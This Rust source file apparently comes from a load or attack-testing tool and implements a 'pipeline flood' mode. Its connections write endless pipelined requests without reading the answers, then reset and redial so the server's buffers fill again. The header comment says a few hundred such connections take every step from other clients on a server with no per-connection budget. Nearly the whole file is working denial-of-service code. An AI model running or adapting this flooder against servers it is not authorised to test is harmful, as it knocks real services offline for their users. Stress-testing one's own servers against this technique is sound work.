//! `--pipeline-flood`: a connection that writes whole requests, pipelined,
//! as fast as the server takes them and never reads an answer; after
//! `--rotate`, or once its sends have been blocked for `--stall` (the
//! server stopped reading it: its answers fill both sides' buffers), it
//! resets the connection and dials again, so the server's buffers fill
//! again. On a server that serves a connection's pipeline without a
//! budget, a few hundred of these take every step from the other clients.

use super::{FLOOD_BLOCK, FLOOD_SEND_BUFFER, FLOOD_TURN, REOPEN_PAUSE};
use crate::context::Context;
use crate::link::Link;
use std::io::{self, Write};
use std::sync::Arc;
use std::time::Instant;

/// Whole requests back to end, about [`FLOOD_BLOCK`] bytes, written round
/// and round: the stream a flooding connection sends is an endless
/// sequence of whole requests. Shared by a thread's flooding connections.
#[derive(Debug, Clone)]
pub struct FloodBlock(Arc<[u8]>);

impl FloodBlock {
    /// As many copies of `request` as fit in [`FLOOD_BLOCK`] (at least one).
    ///
    /// # Panics
    ///
    /// When `request` is empty.
    pub fn new(request: &[u8]) -> FloodBlock {
        assert!(!request.is_empty(), "a flood needs a request");
        let copies = (FLOOD_BLOCK / request.len()).max(1);
        FloodBlock(request.repeat(copies).into())
    }
}

/// One flooding connection.
#[derive(Debug)]
pub struct PipelineFlooder {
    key: usize,
    block: FloodBlock,
    link: Option<Link>,
    connected: bool,
    /// Where in the block the next write starts.
    offset: usize,
    /// When the current connection was dialled; it is replaced at
    /// `opened + rotate`.
    opened: Instant,
    /// When its sends last made progress.
    progressed: Instant,
    /// Waiting in the thread's queue for another turn.
    queued: bool,
    /// When a lost connection is dialled again.
    reopen_at: Instant,
}

impl PipelineFlooder {
    /// A flooding connection under poller key `key`, writing `block`.
    pub fn new(key: usize, block: FloodBlock) -> PipelineFlooder {
        let now = Instant::now();
        PipelineFlooder {
            key,
            block,
            link: None,
            connected: false,
            offset: 0,
            opened: now,
            progressed: now,
            queued: false,
            reopen_at: now,
        }
    }

    /// Before the run: connects (blocking, bounded by the timeout).
    pub fn prepare(&mut self, ctx: &mut Context<'_>) {
        if let Ok(link) = Link::connect(ctx.plan.addr, ctx.plan.timeout, None) {
            if adopt(&link, ctx, self.key).is_ok() {
                self.link = Some(link);
                self.connected = true;
                ctx.attack.pipeline_flood_connected += 1;
            }
        }
    }

    /// The run has started: the first rotation times are spread over one
    /// `--rotate`, so the connections do not all reconnect at once; then
    /// the first writes.
    pub fn start(&mut self, ctx: &mut Context<'_>) {
        let now = Instant::now();
        // A fixed spread (the golden ratio's multiples modulo one): the
        // same from run to run, and even for any number of connections.
        let spread = (self.key as f64 * 0.618_033_988_749_895).fract();
        self.opened = now.checked_sub(ctx.plan.rotate.mul_f64(spread)).unwrap_or(now);
        self.progressed = now;
        self.reopen_at = now;
        if self.connected {
            self.pump(ctx);
        }
    }

    /// Whether it is connected now.
    pub fn is_open(&self) -> bool {
        self.connected
    }

    /// The connect finished, or the socket takes bytes again (or failed).
    pub fn on_event(&mut self, ctx: &mut Context<'_>) {
        let Some(link) = self.link.as_ref() else { return };
        if !self.connected {
            match link.established() {
                Ok(true) => {
                    self.connected = true;
                    ctx.attack.pipeline_flood_connected += 1;
                }
                Ok(false) => return,
                Err(_) => return self.lost(ctx),
            }
        }
        self.pump(ctx);
    }

    /// Another turn after one that ended with the socket still taking bytes.
    pub fn on_again(&mut self, ctx: &mut Context<'_>) {
        self.queued = false;
        if self.connected {
            self.pump(ctx);
        }
    }

    /// Rotates a connection whose time is up or whose sends are blocked;
    /// reopens a lost one after its pause.
    pub fn on_tick(&mut self, now: Instant, ctx: &mut Context<'_>) {
        if self.link.is_none() {
            if now >= self.reopen_at {
                self.reopen(ctx);
            }
        } else if now >= self.opened + ctx.plan.rotate {
            ctx.attack.pipeline_flood_rotated += 1;
            self.close(ctx);
            self.reopen(ctx);
        } else if self.connected && now >= self.progressed + ctx.plan.stall {
            ctx.attack.pipeline_flood_stalled += 1;
            self.close(ctx);
            self.reopen(ctx);
        }
    }

    /// Writes requests until the socket is full, or the turn or the
    /// thread's round of flooding is used up; in those cases asks for
    /// another turn.
    fn pump(&mut self, ctx: &mut Context<'_>) {
        let Some(link) = self.link.as_mut() else { return };
        let block = &self.block.0;
        let turn = FLOOD_TURN.min(ctx.flood_budget);
        let mut written = 0;
        let result = loop {
            if written >= turn {
                break Ok(true);
            }
            match link.write(&block[self.offset..]) {
                Ok(0) => break Err(()),
                Ok(n) => {
                    written += n;
                    self.offset = (self.offset + n) % block.len();
                }
                Err(err) if err.kind() == io::ErrorKind::WouldBlock => break Ok(false),
                Err(err) if err.kind() == io::ErrorKind::Interrupted => {}
                Err(_) => break Err(()),
            }
        };
        ctx.attack.pipeline_flood_bytes += written as u64;
        ctx.flood_budget = ctx.flood_budget.saturating_sub(written);
        match result {
            // Not blocked: the socket took all it was given (maybe nothing,
            // when the round was used up), and wants more.
            Ok(true) => {
                self.progressed = Instant::now();
                if !self.queued {
                    self.queued = true;
                    ctx.again.push(self.key);
                }
            }
            Ok(false) if written > 0 => self.progressed = Instant::now(),
            Ok(false) => {}
            Err(()) => self.lost(ctx),
        }
    }

    /// Dials a new connection, at once; on failure tries again after a pause.
    fn reopen(&mut self, ctx: &mut Context<'_>) {
        let now = Instant::now();
        self.offset = 0;
        self.opened = now;
        self.progressed = now;
        let dialed =
            Link::dial(ctx.plan.addr, None).and_then(|link| adopt(&link, ctx, self.key).map(|()| link));
        match dialed {
            Ok(link) => self.link = Some(link),
            Err(_) => {
                ctx.attack.pipeline_flood_closed += 1;
                self.reopen_at = now + REOPEN_PAUSE;
            }
        }
    }

    /// The server closed it (or refused it): count, and reopen later.
    fn lost(&mut self, ctx: &mut Context<'_>) {
        ctx.attack.pipeline_flood_closed += 1;
        self.close(ctx);
        self.reopen_at = Instant::now() + REOPEN_PAUSE;
    }

    /// Resets the connection (the answers it holds are never read).
    fn close(&mut self, ctx: &Context<'_>) {
        if let Some(link) = self.link.take() {
            link.deregister(ctx.poller);
        }
        self.connected = false;
    }
}

/// Makes `link` reset on close, gives it a small send buffer and
/// registers it for writing.
fn adopt(link: &Link, ctx: &Context<'_>, key: usize) -> io::Result<()> {
    link.reset_on_close()?;
    link.set_send_buffer(FLOOD_SEND_BUFFER)?;
    link.register_writable(ctx.poller, key)
}
